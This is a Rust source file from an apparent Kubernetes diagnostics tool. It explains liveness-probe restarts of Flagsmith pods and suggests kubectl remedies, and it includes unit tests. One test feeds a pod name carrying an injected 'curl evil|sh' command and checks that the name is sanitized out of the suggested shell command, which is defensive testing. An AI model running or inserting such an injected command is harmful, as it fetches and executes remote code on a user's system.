//! The liveness probe restarts pods that work.

use jiff::SignedDuration;

use crate::{
    causes::{described, log::phrasing, prelude::*, probes},
    model::{redact::redact, shell},
    observe::{ContainerState, Observation, ProbeKill, WorkloadState},
    timeouts::liveness_failures,
    validate::{Change, Installation},
};

pub(crate) static CAUSE: Cause = Cause {
    explains: &[
        Explains::from_api(consequences::WITHOUT_API),
        Explains::same_component(&[Code::ProbeFailing, Code::CrashLooping]),
    ],
    in_logs: Some(in_description),
    check: Some(check),
    ..Cause::warning(Component::Api, include_str!("liveness_probe_killing.md"))
};

/// How long a container that was started again has to be up before its end may count as an incident that is over.
const RECOVERED: SignedDuration = SignedDuration::from_mins(2);

/// `timeoutSeconds` that a busy worker can keep.
const TIMEOUT: i32 = 5;

/// The most kills that are shown as evidence.
const SHOWN: usize = 3;

/// How the kubelet says that a probe had no answer in time.
const TOO_LATE: &[&str] = &["deadline exceeded", "Timeout exceeded", "i/o timeout", "timed out"];

/// How the kubelet says that nothing listens on the port.
const NOTHING_LISTENS: &str = "connection refused";

/// A whole processor, in thousandths.
const WHOLE: u64 = 1000;

/// Why a liveness probe failed.
#[derive(Debug, PartialEq, Eq)]
enum Why {
    /// There was no answer in time.
    Late,
    /// Nothing listens on the port.
    NotListening,
    /// Nothing listens because the container migrates first.
    Migrates,
    /// It runs a program that the image does not have.
    NoProgram(String),
    /// It was answered, but wrongly.
    Wrong,
}

/// What `kubectl describe pod` and `kubectl get events` say of pods that were ended.
fn in_description(logs: &LogEvidence) -> Option<Finding> {
    let killed =
        described::events(logs, "Killing", &["failed liveness probe", "failed startup probe"]).last()?;
    let failed =
        described::events(logs, "Unhealthy", &["Liveness probe failed", "Startup probe failed"]).last();
    let said = failed.map_or("", |it| it.message.as_str());
    let who = phrasing::within(phrasing::component(logs.component));
    let probed = logs.described.containers.iter().find(|it| it.liveness.is_some());
    let told = if said.contains(NOTHING_LISTENS) {
        (
            format!(
                "The kubelet ends {who} for its liveness probe before it has started: nothing listens on its port yet \
                 (connection refused) when the probe has no more patience, and each restart begins anew."
            ),
            "Give it time: a startupProbe that asks the same path, with periodSeconds 10 and failureThreshold 60 (the \
             liveness probe begins only after it), or in the official chart, which has none, \
             api.livenessProbe.failureThreshold=30. Flagsmith needs some ten seconds of a whole processor until it \
             listens: raise or remove resources.limits.cpu. If it never listens, its log says why: kubectl logs POD \
             --previous."
                .to_owned(),
        )
    } else {
        let late = TOO_LATE.iter().any(|late| said.contains(late));
        (
            format!(
                "The kubelet restarts pods of {who} because {}. Requests that run are cut.",
                if late {
                    "they do not answer their liveness probe in time: every thread is busy or the processor is short"
                } else {
                    "their liveness probe fails"
                }
            ),
            "See what kept it from answering: kubectl logs POD --previous; and that the probe asks for something that \
             is there. If it is only slow, add pods, threads or CPU, and give the probe timeoutSeconds 5 and a higher \
             failureThreshold."
                .to_owned(),
        )
    };
    let probe = probed.and_then(|it| it.liveness.as_ref());
    let lines = failed.map(|it| &it.line).into_iter().chain([&killed.line]).chain(probe);
    let mut found = described::finding(logs, Code::LivenessProbeKilling, told, lines);
    if described::is_unready(logs) {
        found.explained = found.explained.with(Severity::Critical);
    }
    Some(found)
}

/// The containers of a component that their liveness probe ended, from both witnesses: the Events of a pod that is not
/// ready, and the kills of the last hour, whose pods may have recovered.
struct Killed<'a> {
    component: Component,
    /// A pod that is not ready, and what the kubelet says of its probes.
    unready: Option<(&'a str, Vec<String>)>,
    kills: Vec<&'a ProbeKill>,
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    probes::PROBED
        .into_iter()
        .filter_map(|component| Killed::of(context.observation, component))
        .map(|killed| killed.explain(context))
        .collect()
}

impl<'a> Killed<'a> {
    fn of(observation: &'a Observation, component: Component) -> Option<Self> {
        let unready = probes::unready(observation, component).find_map(|pod| {
            let said = probes::said(observation, pod);
            probes::was_killed(&said, pod, observation.now).then_some((pod.name.as_str(), said))
        });
        let kills: Vec<&ProbeKill> =
            observation.probe_kills.iter().filter(|kill| kill.component == component).collect();
        (unready.is_some() || !kills.is_empty()).then_some(Self { component, unready, kills })
    }

    /// Why the probe failed, in the kubelet's words.
    fn why(&self, workload: Option<&WorkloadState>) -> Why {
        let said = self.unready.iter().flat_map(|(_, said)| said);
        let of_liveness = said.map(String::as_str).filter(|line| probes::is_of_liveness(line));
        let words: Vec<&str> = of_liveness.chain(self.kills.iter().map(|kill| kill.probe.as_str())).collect();
        let all = |is: &dyn Fn(&str) -> bool| words.iter().all(|it| is(it));
        if let Some(program) = words.iter().find_map(|it| probes::missing_program(it)) {
            return Why::NoProgram(program);
        }
        if all(&|it| TOO_LATE.iter().any(|late| it.contains(late))) {
            return Why::Late;
        }
        if !all(&|it| it.contains(NOTHING_LISTENS)) {
            return Why::Wrong;
        }
        let migrates = workload.and_then(WorkloadState::container).is_some_and(ContainerState::migrates);
        if migrates { Why::Migrates } else { Why::NotListening }
    }

    /// A pod that is down now is worse than one that was, and that one worse than what is over.
    fn severity(&self, observation: &Observation) -> Severity {
        if self.unready.is_some() {
            Severity::Critical
        } else if self.kills.iter().all(|kill| recovered(observation, kill)) {
            Severity::Info
        } else {
            Severity::Warning
        }
    }

    fn workload<'b>(&self, observation: &'b Observation) -> Option<&'b WorkloadState> {
        match self.component {
            Component::TaskProcessor => observation.task_processor.as_ref(),
            Component::Frontend => observation.frontend.as_ref(),
            Component::EdgeProxy => observation.edge_proxy.as_ref(),
            _ => observation.api.as_ref(),
        }
    }

    fn evidence(&self, observation: &Observation) -> Vec<String> {
        let workload = self.workload(observation);
        let probe = workload
            .and_then(|workload| workload.serving.as_ref())
            .and_then(|serving| serving.liveness.as_ref());
        let said = self.unready.iter().flat_map(|(_, said)| said.iter().cloned());
        let kills = self.kills.iter().take(SHOWN).map(|kill| {
            format!(
                "pod {}: {}; its container was ended for that (exit status {}) and started again",
                kill.pod,
                redact(&kill.probe),
                kill.exit_code,
            )
        });
        let patience = probe.map(|probe| {
            format!(
                "the probe waits {} s for an answer and gives up after {} s without one",
                probe.timeout, probe.patience,
            )
        });
        let limit = cpu_limit(workload).map(|limit| format!("the limit of the processor is {limit}m"));
        said.chain(kills).chain(patience).chain(limit).collect()
    }

    fn explain(&self, context: &Context<'_>) -> Draft {
        let who = self.component.as_str();
        let pod = self.unready.as_ref().map(|(name, _)| *name);
        let pod = pod.or_else(|| self.kills.first().map(|kill| kill.pod.as_str()));
        let logs = format!(
            "kubectl -n {} logs {} --previous",
            shell::name(&context.installation.identity.namespace, "NAMESPACE"),
            shell::name(pod.unwrap_or_default(), "POD"),
        );
        let patient = patient(context.installation, self.component);
        let workload = self.workload(context.observation);
        let (message, remedy) = match self.why(workload) {
            Why::Late => (
                format!(
                    "The kubelet restarts pods of the {who} because they do not answer their liveness probe in time: \
                     every thread is busy or the processor is short. Requests that run are cut."
                ),
                format!(
                    "Find what keeps it busy (slow queries: pg_stat_activity; CPU limit; {logs}), add pods or \
                     threads, and {patient}."
                ),
            ),
            Why::NotListening => (
                format!(
                    "The kubelet ends pods of the {who} for their liveness probe before they have started: nothing listens on \
                     the port yet (connection refused) when the probe has no more patience, and each restart begins anew."
                ),
                format!(
                    "{}If it never listens, its log says why: {logs}. Otherwise {patient}.",
                    faster(context.installation, self.component, workload)
                ),
            ),
            Why::Migrates => (
                format!(
                    "The kubelet ends pods of the {who} while they migrate: their container migrates before it listens, and the \
                     liveness probe has no patience for that. Each restart begins the same migration anew."
                ),
                format!(
                    "Start the pods with the argument \"serve\" instead of \"migrate-and-serve\", and let one Job migrate: {}. The \
                     log says where it was: {logs}. An index that was being built CONCURRENTLY may be left invalid.",
                    context.installation.managed_by.change(&[Change::MigrateInJob])
                ),
            ),
            Why::NoProgram(program) => (
                format!(
                    "The kubelet restarts pods of the {who} because their liveness probe runs {program:?}, which the image \
                     does not have. Requests that run are cut."
                ),
                probes::without_program(self.component),
            ),
            Why::Wrong => (
                format!(
                    "The kubelet restarts pods of the {who} because their liveness probe fails. Requests that run \
                     are cut."
                ),
                format!(
                    "See what kept it from answering: {logs}; and that the probe asks for something that is there. \
                     If it is only slow, add pods, threads or CPU, and {patient}."
                ),
            ),
        };
        Draft {
            code: Code::LivenessProbeKilling,
            severity: self.severity(context.observation),
            component: self.component,
            message,
            evidence: self.evidence(context.observation),
            remedy,
        }
    }
}

/// What makes the start faster, as a sentence to begin with.
fn faster(installation: &Installation, component: Component, workload: Option<&WorkloadState>) -> String {
    let Some(limit) = cpu_limit(workload).filter(|limit| *limit < WHOLE) else {
        return String::new();
    };
    let change = installation.managed_by.change(&[Change::NoCpuLimit(component)]);
    format!(
        "Flagsmith needs some ten seconds of a whole processor until it listens, and may use {limit}m of one: {change}. "
    )
}

/// Thousandths of a processor.
fn cpu_limit(workload: Option<&WorkloadState>) -> Option<u64> {
    workload?.serving.as_ref()?.cpu_limit
}

/// How its owner makes the probe outlast the longest request.
fn patient(installation: &Installation, component: Component) -> String {
    let (own, field) = match component {
        Component::TaskProcessor => (&installation.task_processor.container, "taskProcessor"),
        Component::Frontend => (&installation.frontend.container, "frontend"),
        _ => (&installation.api.container, "api"),
    };
    if own.liveness_probe.is_some() {
        return format!(
            "remove spec.{field}.livenessProbe (the operator's own is patient enough for the longest request)"
        );
    }
    let failures = liveness_failures(installation.request_timeout);
    let change = installation.managed_by.change(&[Change::Liveness(component, TIMEOUT, failures)]);
    format!("let the probe outlast the longest request: {change}")
}

/// Whether a pod was ended once and is well since: a database that was away does that to every pod, and is over. What
/// comes again is a pattern.
fn recovered(observation: &Observation, kill: &ProbeKill) -> bool {
    kill.restarts <= 1
        && observation.pods.iter().any(|pod| {
            let up = pod.started.map(|started| observation.now.duration_since(started));
            pod.name == kill.pod && pod.ready && up.is_some_and(|up| up >= RECOVERED)
        })
}

#[cfg(test)]
mod tests {
    use rstest::rstest;
    use serde_json::json;

    use super::super::shared::testing::{check, codes, first, made};
    use super::*;
    use crate::{
        fixtures::{empty_observation, installation, minimal, spec},
        observe::PodSummary,
    };

    const LATE: &str = "Liveness probe failed: context deadline exceeded";

    fn kill(probe: &str, restarts: i32) -> ProbeKill {
        ProbeKill {
            pod: "flagsmith-api-abc".to_owned(),
            component: Component::Api,
            probe: probe.to_owned(),
            exit_code: 137,
            restarts,
        }
    }

    #[test]
    fn a_container_that_its_liveness_probe_ended_is_named() {
        let installation = installation(&spec(json!({})));
        let mut observation = made(&installation, &|_| {});
        observation.probe_kills = vec![kill(LATE, 2)];
        let found = check(&installation, &observation);
        assert_eq!(codes(&found), [Code::LivenessProbeKilling]);
        assert!(
            found.first().unwrap().evidence.iter().any(|it| it.contains("context deadline exceeded")),
            "{found:?}"
        );
    }

    #[rstest]
    #[case::once_and_well_since(1, true, 600, Severity::Info)]
    #[case::a_moment_ago(1, true, 30, Severity::Warning)]
    #[case::again_and_again(3, true, 600, Severity::Warning)]
    #[case::not_well(1, false, 600, Severity::Warning)]
    fn what_happened_once_is_over(
        #[case] restarts: i32,
        #[case] ready: bool,
        #[case] seconds: i64,
        #[case] expected: Severity,
    ) {
        let installation = installation(&spec(json!({})));
        let mut observation = made(&installation, &|_| {});
        observation.probe_kills = vec![kill(LATE, restarts)];
        observation.pods = vec![PodSummary {
            name: "flagsmith-api-abc".to_owned(),
            component: Some(Component::Api),
            ready,
            started: Some(observation.now - SignedDuration::from_secs(seconds)),
            ..PodSummary::default()
        }];
        let found = check(&installation, &observation);
        let killed = found.iter().find(|it| it.code == Code::LivenessProbeKilling);
        assert_eq!(killed.map(|it| it.severity), Some(expected), "{found:#?}");
    }

    /// A probe that is answered, but wrongly, is not answered late.
    #[rstest]
    #[case(LATE, "in time")]
    #[case(
        "Liveness probe failed: Get \"http://10.0.0.7:8000/\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
        "in time"
    )]
    #[case("Liveness probe failed: HTTP probe failed with statuscode: 404", "their liveness probe fails")]
    fn the_reason_is_the_kubelets(#[case] probe: &str, #[case] expected: &str) {
        let installation = installation(&minimal());
        let mut observation = empty_observation();
        observation.probe_kills = vec![kill(probe, 2)];
        let found = check(&installation, &observation);
        assert!(found[0].message.contains(expected), "{found:#?}");
        assert!(found[0].remedy.contains("kubectl -n prod logs flagsmith-api-abc --previous"), "{found:#?}");
    }

    const REFUSED: &str = "Liveness probe failed: dial tcp 10.0.0.7:8000: connect: connection refused";

    /// One that never listens is started too slowly, or does something else first.
    #[rstest]
    #[case::slow("serve", "30m", "before they have started", "may use 30m of one")]
    #[case::in_time("serve", "2", "before they have started", "let the probe outlast")]
    #[case::migrates("migrate-and-serve", "2", "migrates before it listens", "let one Job migrate")]
    fn what_keeps_it_from_listening(
        #[case] argument: &str,
        #[case] limit: &str,
        #[case] message: &str,
        #[case] remedy: &str,
    ) {
        let installation = installation(&minimal());
        let mut observation = made(&installation, &|body| {
            if let Some(container) = body.pointer_mut("/spec/template/spec/containers/0") {
                container["args"] = json!([argument]);
                container["resources"] = json!({ "limits": { "cpu": limit } });
            }
        });
        observation.probe_kills = vec![kill(REFUSED, 2)];
        let found = check(&installation, &observation);
        let killed = first(&found, Code::LivenessProbeKilling);
        assert!(killed.message.contains(message), "{killed:#?}");
        assert!(killed.remedy.contains(remedy), "{killed:#?}");
    }

    #[test]
    fn a_program_that_the_image_has_not_is_named() {
        let words = r#"Liveness probe errored: rpc error: failed to exec in container: unable to start container process: exec: "bash": executable file not found in $PATH"#;
        let installation = installation(&minimal());
        let mut observation = empty_observation();
        observation.probe_kills = vec![kill(words, 2)];
        let found = check(&installation, &observation);
        assert!(found[0].message.contains("runs \"bash\", which the image does not have"), "{found:#?}");
    }

    #[test]
    fn a_hostile_name_is_no_part_of_a_command() {
        let installation = installation(&minimal());
        let mut observation = empty_observation();
        observation.probe_kills =
            vec![ProbeKill { pod: "x;curl evil|sh\u{1b}\n".to_owned(), ..kill(LATE, 2) }];
        let remedy = &check(&installation, &observation)[0].remedy;
        assert!(remedy.contains("-n prod logs POD --previous") && !remedy.contains("evil"), "{remedy}");
    }
}
